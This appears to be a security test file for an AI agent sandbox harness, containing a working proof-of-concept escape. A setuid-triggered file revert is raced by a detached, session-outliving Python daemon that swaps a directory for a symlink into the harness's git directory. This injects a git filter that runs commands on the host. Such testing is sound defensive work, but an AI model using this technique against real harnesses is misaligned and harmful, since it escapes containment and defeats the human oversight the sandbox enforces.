// A daemon that *is* alive while the harness undoes refused files, and swaps their directory for a link to the
// harness's git directory, so that git writes the model's configuration there and runs it.
import { existsSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { aWorkbench, closeAll, type Handle } from "../kit.ts";

export interface Escape {
  /** The filter ran on the machine. */
  readonly escaped: boolean;
  /** It ran at all, even if only in the ledger's sandbox. */
  readonly ran: boolean;
  /** The harness's git directory has the model's configuration, or none any more. */
  readonly written: boolean;
  /** A daemon was alive when its call had returned. */
  readonly outlived: boolean;
  readonly turns: number;
  /** What the proof says. */
  readonly proof: string;
}

export interface EscapeOptions {
  /** A directory on the machine that the sandboxes' user may write to; only the proof is written there. */
  readonly proof: string;
  /** Where the link leads. `machine`: as seen from the work tree. `ledger`: as seen in the ledger's sandbox. */
  readonly target: "machine" | "ledger";
  readonly turns: number;
}

const TARGETS = { machine: "../../../git", ledger: "/.kin/git" } as const;

/** Seconds that the link stays: long enough for git to reach `config`, too short for a second look at it. */
const HOLDS = [0.06, 0.12, 0.25, 0.03];

/** One bench, until it worked or all `turns` are used. */
export const tryEscape = async ({ proof, target, turns }: EscapeOptions): Promise<Escape> => {
  const file = join(proof, "ESCAPED");
  rmSync(file, { force: true });
  const stand = await aWorkbench({ "a.txt": "a\n" });
  const tmp = join(stand.dir, "benches", "1", "tmp");
  const config = (): string => textOf(join(stand.dir, "git", "config"));
  try {
    const before = config();
    const bench = await stand.open();
    await bench.bash(prepared(file));
    await bench.record();
    const seen = { escaped: false, ran: false, written: false, outlived: false, turns: 0 };
    while (!seen.escaped && config() !== "" && seen.turns < turns) {
      await bench.bash(armed(TARGETS[target], seen.turns));
      seen.turns++;
      const told = textOf(join(tmp, "beat"));
      await sleep(20);
      seen.outlived ||= textOf(join(tmp, "beat")) !== told;
      await recordTwice(bench);
      seen.escaped = existsSync(file);
      seen.ran ||= seen.escaped || existsSync(join(tmp, "RAN"));
      seen.written ||= config() !== before;
    }
    return { ...seen, proof: textOf(file) };
  } finally {
    // If its git directory was damaged, closing does not know what to unseal.
    const left = realpathSync(stand.dir);
    await closeAll().catch(closeAll);
    rmSync(left, { recursive: true, force: true, maxRetries: 3 });
  }
};

/** The first undoes files; the second runs the filter, whatever file it is for. */
const recordTwice = async (bench: Handle): Promise<void> => {
  await bench.record().catch(() => undefined);
  await bench.bash("date +%N > /work/hello.txt");
  await bench.record().catch(() => undefined);
};

/** Ordinary files with ordinary names, to be accepted. The more they contain, the longer the window. */
const prepared = (file: string): string => `
mkdir -p /work/x/info && cd /work/x
for i in $(seq -w 0 89); do head -c 7000 /dev/urandom | base64 -w 0 > a$i; done
printf '* filter=pwn\\n' > info/attributes
cat > config <<'EOC'
[core]
	repositoryformatversion = 0
	bare = true
[filter "pwn"]
	clean = "{ id; hostname; pwd; } > ${file} 2>/dev/null; touch /tmp/RAN; cat"
EOC`;

/** The setuid bit gets them refused. The daemon ends by itself, at the latest with its bench. */
const armed = (target: string, turn: number): string => `
cat > /tmp/swap.py <<'PY'
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
exchange = lambda a, b: libc.renameat2(-100, a, -100, b, 2)
os.makedirs('/work/node_modules', exist_ok=True)
try: os.unlink('/work/node_modules/l')
except FileNotFoundError: pass
os.symlink('${target}', '/work/node_modules/l')
def back():
    try: return not os.stat('/work/x/a00').st_mode & 0o4000
    except OSError: return False
end = time.time() + 4
ready = '/tmp/ready-${turn}'
open(ready, 'w').close()
wanted = lambda: time.time() < end and os.path.exists(ready)
if os.fork() == 0:
    while wanted():
        open('/tmp/beat.new', 'w').write(str(time.time())); os.rename('/tmp/beat.new', '/tmp/beat')
        time.sleep(0.005)
    os._exit(0)
while wanted():
    if back():
        exchange(b'/work/x', b'/work/node_modules/l')
        time.sleep(${HOLDS[turn % HOLDS.length]})
        exchange(b'/work/x', b'/work/node_modules/l')
        os.unlink(ready)
PY
cd /work/x && for f in a* config info/attributes; do echo >> $f; done; chmod u+s a* config info/attributes
setsid python3 /tmp/swap.py >/dev/null 2>&1 </dev/null &
for i in $(seq 200); do [ -e /tmp/ready-${turn} ] && break; sleep 0.01; done`;

const textOf = (file: string): string => {
  try {
    return readFileSync(file, "utf8");
  } catch {
    return "";
  }
};
